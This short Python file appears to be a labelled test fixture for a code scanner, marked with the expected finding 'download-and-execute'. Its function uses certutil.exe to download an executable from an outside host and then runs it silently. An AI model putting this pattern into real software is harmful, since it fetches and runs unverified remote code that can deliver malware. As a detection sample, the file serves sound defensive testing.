# expect: download-and-execute
import os


def fetch_driver(dest_dir: str) -> None:
    dest = os.path.join(dest_dir, "acmedrv.exe")
    os.system(f"certutil.exe -urlcache -split -f http://files.acme-drivers.net/acmedrv.exe {dest}")
    os.system(dest + " /S")
